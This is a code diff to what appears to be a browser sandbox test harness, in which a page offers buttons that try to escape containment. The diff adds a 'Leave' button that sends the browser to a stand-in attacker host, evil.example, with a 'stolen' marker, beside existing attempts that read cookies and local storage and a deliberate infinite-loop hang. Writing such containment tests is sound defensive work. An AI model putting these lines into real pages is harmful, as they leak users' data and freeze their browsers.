@@ -22,7 +22,7 @@ permit (principal, action == ${namespace}::Action::"run", resource);`
 const PAGE = `<!doctype html>
 <html lang="en"><head><meta charset="utf-8"><title>Lamps</title><link rel="stylesheet" href="play.css">
 <script type="module" src="play.js"></script></head>
-<body><h1>Find the lamp</h1><p id="who"></p><button id="win">Take the prize</button><button id="hang">Hang</button>
+<body><h1>Find the lamp</h1><p id="who"></p><button id="win">Take the prize</button><button id="hang">Hang</button><button id="leave">Leave</button>
 <output id="result"></output><output id="attacks"></output></body></html>`
 const SCRIPT = `import { connect } from './frame.js'
 let person
@@ -43,6 +43,7 @@ document.getElementById('win').onclick = async () => {
   }
 }
 document.getElementById('hang').onclick = () => { for (;;) {} }
+document.getElementById('leave').onclick = () => { location.href = 'https://evil.example/?stolen' }
 const attempts = {
   cookie: () => document.cookie,
   storage: () => String(localStorage.length),
